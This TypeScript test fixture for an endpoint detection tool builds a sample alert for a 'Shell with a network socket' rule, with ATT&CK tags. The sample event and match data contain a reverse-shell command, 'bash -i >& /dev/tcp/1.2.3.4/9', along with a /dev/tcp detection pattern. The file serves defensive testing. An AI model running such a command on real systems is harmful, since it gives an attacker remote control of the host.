import type { NewAlert } from '../../../../collector/store/contract.ts';

/** An alert as detection raises it, for tests. */
export function newAlert(id: string, over: Partial<NewAlert> = {}): NewAlert {
  return {
    id,
    ruleId: 'rule-1',
    ruleTitle: 'Shell with a network socket',
    level: 'high',
    hostId: 'h1',
    hostName: 'web-1',
    raisedAt: 1_700_000_000_000_000,
    firstEventAt: 1_700_000_000_000_000,
    lastEventAt: 1_700_000_000_000_000,
    count: 1,
    tags: ['attack.execution', 'attack.t1059.004'],
    reason: 'bash was started with a connection to another machine as its input.',
    matches: [
      {
        selection: 'selection',
        field: 'process.command_line',
        value: 'bash -i >& /dev/tcp/1.2.3.4/9',
        test: "contains '/dev/tcp/'",
      },
    ],
    eventIds: ['h1:s:1:0'],
    event: {
      type: 'process.start',
      time: 1_700_000_000_000_000,
      'process.pid': 42,
      'process.entity_id': 'p42',
      'process.start': 1_700_000_000_000_000,
      'process.name': 'bash',
      'process.executable': '/usr/bin/bash',
      'process.command_line': 'bash -i >& /dev/tcp/1.2.3.4/9',
      'process.parent.name': 'python3',
      'process.parent.command_line': 'python3 /srv/app.py',
      'user.name': 'www-data',
    },
    ...over,
  };
}
